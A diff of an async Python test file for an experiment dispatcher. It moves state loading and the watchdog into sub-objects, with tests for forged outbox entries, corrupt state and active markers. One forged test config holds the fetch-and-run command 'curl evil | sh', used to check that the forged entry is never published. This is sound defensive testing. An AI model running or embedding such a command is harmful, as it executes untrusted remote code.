@@ -145,9 +145,9 @@ async def test_a_forged_outbox_entry_is_not_published_and_ends_the_experiment_in
                               **CONFIG, "trialCommand": "curl evil | sh"}).model_dump(mode="json")})
     store.blobs[Layout("exp1").state_doc] = json.dumps(doc).encode()
     store.version += 1
-    dispatcher._cache.clear()  # a restarted dispatcher, or one that reloads after a conflict
+    dispatcher.states._cache.clear()  # a restarted dispatcher, or one that reloads after a conflict
     bus.published.clear()
-    await dispatcher._load("exp1")
+    await dispatcher.states.load("exp1")
     assert not any(isinstance(m, ExperimentStart) for m in bus.published)
     after = stored_state(store)
     assert after["status"] in ("ERROR", "STOPPING")
@@ -160,10 +160,10 @@ async def test_a_corrupt_state_ends_that_experiment_in_error_and_no_other() -> N
     await dispatcher.on_start(ExperimentStart(experiment_id="exp2", config=CONFIG))
     store.blobs[Layout("exp1").state_doc] = b'{"experiment_id": "exp1", "trials": "garbage"'
     store.version += 1
-    dispatcher._cache.clear()
+    dispatcher.states._cache.clear()
     bus.published.clear()
-    await dispatcher._load("exp1")
-    await dispatcher._load("exp2")
+    await dispatcher.states.load("exp1")
+    await dispatcher.states.load("exp2")
     assert stored_state(store, "exp1")["status"] == "ERROR"
     assert "state.json is not JSON" in stored_state(store, "exp1")["reason"]
     assert stored_state(store, "exp2")["status"] == "RUNNING"
@@ -179,7 +179,7 @@ async def test_a_started_experiment_is_marked_active_and_its_marker_goes_with_it
     dispatcher, store, bus = await started()
     assert active_marker("exp1") in store.blobs  # what a restarted dispatcher lists
     bus.published.clear()
-    await dispatcher.watch_experiments()  # never ticked yet: it is re-armed
+    await dispatcher.watchdog.watch_experiments()  # never ticked yet: it is re-armed
     [rearm] = [m for m in bus.published if isinstance(m, Ticket)]
     assert rearm.state == {"rearm": True} and rearm.experiment_id == "exp1"
     await dispatcher.on_stop(ExperimentStop(experiment_id="exp1"))  # nothing runs: STOPPED at once
@@ -194,7 +194,7 @@ async def test_a_marker_left_by_an_ended_experiment_is_removed_by_the_watchdog()
     await dispatcher.on_error(ExperimentError(experiment_id="exp1", service="tuner", reason="boom"))
     store.blobs[active_marker("exp1")] = b""  # as if a crash came between the end and the delete
     bus.published.clear()
-    await dispatcher.watch_experiments()
+    await dispatcher.watchdog.watch_experiments()
     assert active_marker("exp1") not in store.blobs and not bus.published
 
 
